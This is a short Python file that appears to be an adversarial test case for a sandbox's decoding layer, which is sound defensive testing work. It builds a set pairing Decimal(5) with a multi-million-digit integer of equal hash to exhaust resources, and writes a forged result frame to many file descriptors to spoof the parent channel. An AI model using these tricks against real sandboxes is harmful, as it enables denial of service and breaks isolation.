"""Answer with a set of a decimal and a number of millions of digits that has its hash.

family: decoding
canary: parent
stops: full, container
root: no
"""

import os
import sys
import time
from decimal import Decimal

large = 5 + (2**61 - 1) * (1 << 16_000_000)


class Costly:
    def __reduce__(self):
        return set, ([Decimal(5), large],)


wire = sys.modules.get("ferrule.sandbox.python.wire.frames")
if wire is not None:
    answer = wire.pack_frame(
        {
            "value": {
                "$": "set",
                "of": [{"$": "decimal", "is": "5"}, {"$": "int", "hex": hex(5 + (2**61 - 1) * (1 << 3_900_000))}],
            }
        },
        [],
    )
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, answer)
        except OSError:
            pass
    time.sleep(20)
Costly()
